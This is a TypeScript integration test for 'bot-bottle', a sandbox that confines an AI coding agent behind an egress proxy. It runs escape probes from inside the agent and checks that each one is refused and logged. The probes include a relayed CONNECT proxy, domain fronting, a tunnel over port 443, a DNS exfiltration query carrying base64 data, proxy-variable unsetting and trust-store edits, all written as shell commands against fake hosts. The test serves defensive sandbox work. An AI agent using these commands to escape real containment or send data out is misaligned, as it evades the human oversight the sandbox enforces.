/**
 * Adversarial probes from inside a real agent (threats.md). Each step names the
 * escape, the refusal expected, and where the refusal is logged. Probes aim only at
 * containers this test created: the fake upstream, a second bottle, the bundle.
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import { $, captureRaw } from "../shell.ts";
import { runBotBottle, tempDir } from "../helpers.ts";
import { dockerTest } from "../integration/docker.ts";
import { startUpstream, upstreamEnv } from "../integration/upstream.ts";

const manifest = (subnet: string) => `
bottles:
  dev:
    egress:
      allow: [plain.fake.test]
      allow_private: ["${subnet}"]
      routes:
        - host: api.anthropic.com
          headers:
            x-api-key: { env: ANTHROPIC_API_KEY }
agents:
  claude:
    bottle: dev
`;

dockerTest("escapes from inside the agent are refused and logged", async (t) => {
  await using upstream = await startUpstream([
    "api.anthropic.com",
    "plain.fake.test",
    "denied.fake.test",
  ], "ok");
  await using dir = await tempDir();
  await Deno.writeTextFile(join(dir.path, "bot-bottle.yaml"), manifest(upstream.subnet));
  const env = {
    ANTHROPIC_API_KEY: "sk-ant-escape-test-credential",
    ...(await upstreamEnv(upstream)),
  };
  const names: string[] = [];
  for (let i = 0; i < 2; i++) {
    const up = await runBotBottle(["up", "claude"], { cwd: dir.path, env });
    assert.equal(up.code, 0, up.stderr);
    names.push(up.stdout.trim());
  }
  const [name, other] = names as [string, string];
  const sh = (script: string, user = "1000:1000") =>
    captureRaw($`docker exec --user ${user} ${`bot-bottle-${name}-agent`} sh -c ${script}`, "2m");
  const log = async () =>
    (await runBotBottle(["logs", name, "--format", "json"], { env })).stdout.trim().split("\n").map(
      (l) => JSON.parse(l),
    );
  const ipOf = async (container: string, network: string) =>
    (await captureRaw(
      $`docker inspect --format ${`{{(index .NetworkSettings.Networks "${network}").IPAddress}}`} ${container}`,
    ))
      .stdout.trim();

  try {
    await t.step(
      "relayed CONNECT: a proxy started inside the agent still needs the bundle, which refuses",
      async () => {
        // A second hop inside the sandbox (node's http proxy) forwarding to the bundle.
        const relay = `cat > /tmp/relay.js <<'JS'
const http = require("http"), net = require("net");
const [ph, pp] = process.env.HTTPS_PROXY.replace("http://", "").split(":");
http.createServer().on("connect", (req, sock) => {
  const up = net.connect(pp, ph, () => up.write("CONNECT " + req.url + " HTTP/1.1\\r\\n\\r\\n"));
  up.pipe(sock); sock.pipe(up);
}).listen(8888, "127.0.0.1", () => require("fs").writeFileSync("/tmp/relay.up", ""));
JS
node /tmp/relay.js &
for i in $(seq 1 100); do [ -e /tmp/relay.up ] && break; sleep 0.1; done
curl -sS --max-time 5 -x http://127.0.0.1:8888 https://denied.fake.test/ ; echo "rc=$?"`;
        // Once the relay listens: after a fixed sleep, curl could find nothing on the port
        // (exit 7), and nothing would reach the bundle to be refused.
        const r = await sh(relay);
        assert.match(
          r.stdout + r.stderr,
          /403|rc=(35|56)/,
          `the relayed CONNECT is refused by the bundle: ${r.stdout}${r.stderr}`,
        );
        const entries = await log();
        assert.ok(
          entries.some((e) =>
            e.action === "deny" && e.host === "denied.fake.test" && e.method === "CONNECT"
          ),
          `the refusal is logged: ${r.stdout}${r.stderr}\n${JSON.stringify(entries)}`,
        );
        const reached = (await upstream.received()).filter((x) =>
          String(x.host ?? "").startsWith("denied")
        );
        assert.deepEqual(reached, []);
      },
    );

    await t.step("IP literal: CONNECT to an address instead of a name is refused", async () => {
      const r = await sh(`curl -sS -o /dev/null -w '%{http_code}' http://${upstream.ip}/`);
      assert.equal(r.stdout, "403");
      assert.ok((await log()).some((e) => e.action === "deny" && e.host === upstream.ip));
    });

    await t.step(
      "tunnel over an allowed port to a host that is not allowed (ssh over 443) is refused",
      async () => {
        const r = await sh(
          "curl -sS --max-time 5 -p -x $HTTPS_PROXY telnet://denied.fake.test:443 </dev/null; echo rc=$?",
        );
        assert.match(r.stdout + r.stderr, /403|rc=56/);
        const r22 = await sh(
          "curl -sS --max-time 5 -p -x $HTTPS_PROXY telnet://plain.fake.test:22 </dev/null; echo rc=$?",
        );
        assert.match(
          r22.stdout + r22.stderr,
          /403|rc=56/,
          "an allowed host on a port it is not allowed on",
        );
        assert.ok(
          (await log()).some((e) =>
            e.action === "deny" && e.host === "plain.fake.test" && e.port === 22
          ),
        );
      },
    );

    await t.step(
      "domain fronting: TLS naming another host than the CONNECT authority is cut off",
      async () => {
        // CONNECT to an allowed host, TLS (SNI) for a denied one on the same server.
        const r = await sh(
          "curl -sS --max-time 5 -k --connect-to denied.fake.test:443:plain.fake.test:443 https://denied.fake.test/; echo rc=$?",
        );
        assert.match(r.stdout + r.stderr, /rc=(35|56)/, "the TLS handshake never completes");
        assert.ok((await log()).some((e) =>
          e.action === "deny" && e.host === "plain.fake.test" &&
          /TLS names "denied\.fake\.test"/.test(e.reason)
        ));
        const ok = await sh(
          "curl -sS -k -o /dev/null -w '%{http_code}' 'https://plain.fake.test/bytes?n=1'",
        );
        assert.equal(ok.stdout, "200", "the same tunnel with matching SNI works");
      },
    );

    await t.step(
      "DNS exfiltration by query name and TXT lookup gets no answer and leaves nothing",
      async () => {
        const r = await sh(
          "getent hosts c2VjcmV0LWRhdGE.exfil.fake.test; echo a=$?; getent ahosts txt.exfil.fake.test; echo b=$?",
        );
        assert.match(r.stdout, /a=2/);
        assert.match(r.stdout, /b=2/);
        const dns = (await log()).filter((e) => e.kind === "dns");
        assert.ok(
          dns.some((e) => e.query === "4 labels, *.fake.test"),
          "the refusal is logged without the payload",
        );
        assert.ok(!JSON.stringify(dns).includes("c2VjcmV0"));
      },
    );

    await t.step(
      "direct IPv6: the agent has no IPv6 address beyond loopback and no IPv6 route out",
      async () => {
        const r = await sh(
          "cat /proc/net/if_inet6 2>/dev/null | awk '{print $6}' | sort -u; curl -6 -sS --max-time 3 http://plain.fake.test/; echo rc=$?",
        );
        assert.doesNotMatch(r.stdout, /eth0/, "no IPv6 address on the bottle's interface");
        assert.match(r.stdout, /rc=(6|7|28)/);
      },
    );

    await t.step("a decoy on another bottle's network is unreachable", async () => {
      const otherBundle = await ipOf(`bot-bottle-${other}-bundle`, `bot-bottle-${other}-internal`);
      const otherAgent = await ipOf(`bot-bottle-${other}-agent`, `bot-bottle-${other}-internal`);
      for (const ip of [otherBundle, otherAgent]) {
        const r = await sh(`curl -sS --noproxy '*' --max-time 3 http://${ip}:3128/; echo rc=$?`);
        assert.match(r.stdout + r.stderr, /rc=(7|28)/, `${ip} answered`);
      }
      const viaProxy = await sh(
        `curl -sS -o /dev/null -w '%{http_code}' http://${otherBundle}:3128/`,
      );
      assert.equal(viaProxy.stdout, "403", "nor through the proxy");
    });

    await t.step("the bundle's loopback daemons are out of reach", async () => {
      const bundleIp = await ipOf(`bot-bottle-${name}-bundle`, `bot-bottle-${name}-internal`);
      for (const port of [9101]) {
        const r = await sh(
          `curl -sS --noproxy '*' --max-time 3 http://${bundleIp}:${port}/requests; echo rc=$?`,
        );
        assert.match(r.stdout + r.stderr, /rc=7/, `port ${port} answered`);
      }
    });

    await t.step("the agent cannot edit its trust store or the bottle's CA", async () => {
      const r = await sh(
        "echo x >> /etc/ssl/certs/ca-certificates.crt; echo a=$?; echo x >> /usr/local/share/ca-certificates/bot-bottle-ca.crt; echo b=$?",
      );
      assert.match(r.stdout, /a=[12]/);
      assert.match(r.stdout, /b=[12]/);
    });

    await t.step("unsetting its proxy settings gets the agent nothing", async () => {
      const r = await sh(
        "env -u HTTPS_PROXY -u HTTP_PROXY -u https_proxy -u http_proxy curl -sS --max-time 3 http://plain.fake.test/; echo rc=$?",
      );
      assert.match(r.stdout + r.stderr, /rc=(6|7|28)/);
    });
  } finally {
    for (const n of names) await runBotBottle(["down", n], { env });
  }
});
